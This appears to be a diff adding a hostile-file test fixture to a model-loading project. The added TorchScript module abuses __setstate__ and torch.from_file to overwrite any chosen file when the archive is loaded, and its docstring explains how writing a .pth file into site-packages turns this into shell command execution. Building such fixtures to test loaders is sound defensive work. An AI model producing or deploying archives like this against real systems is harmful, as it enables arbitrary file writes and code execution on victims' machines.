@@ -288,3 +288,42 @@ class _OpenAIArchive(torch.nn.Module):
     def forward(self, text: torch.Tensor) -> torch.Tensor:
         x = self.token_embedding(text) + self.positional_embedding.float()
         return self.ln_final(x) @ self.text_projection.float()
+
+
+class _SetstateWriter(torch.nn.Module):
+    """A scripted module whose TorchScript ``__setstate__`` overwrites ``target`` through
+    ``torch.from_file(shared=True)`` when the archive is loaded by ``torch.jit.load``: the
+    attack of the hostile-files issue (writing a ``.pth`` into site-packages turns it into a
+    shell command at the next Python start)."""
+
+    def __init__(self, target: str, payload: str) -> None:
+        super().__init__()
+        self.weight = torch.nn.Parameter(torch.zeros(3))
+        self.target = target
+        self.payload = torch.tensor(list(payload.encode()), dtype=torch.uint8)
+
+    def forward(self, x: torch.Tensor) -> torch.Tensor:
+        return x * self.weight
+
+    @torch.jit.export
+    def __getstate__(self) -> tuple[torch.Tensor, str, torch.Tensor, bool]:
+        return (self.weight, self.target, self.payload, self.training)
+
+    @torch.jit.export
+    def __setstate__(self, state: tuple[torch.Tensor, str, torch.Tensor, bool]) -> None:
+        self.target = state[1]
+        self.payload = state[2]
+        self.training = state[3]
+        mapped = torch.from_file(self.target, True, self.payload.numel(), dtype=torch.uint8)
+        mapped.copy_(self.payload)
+        self.weight = state[0] + mapped[:3].float() * 0  # keeps the write alive
+
+
+def write_hostile_torchscript(path: Path, target: Path, payload: str) -> Path:
+    """A TorchScript archive that writes ``payload`` to ``target`` if it is ever executed."""
+    import warnings
+
+    with warnings.catch_warnings():
+        warnings.simplefilter("ignore")
+        torch.jit.script(_SetstateWriter(str(target), payload)).save(str(path))
+    return path
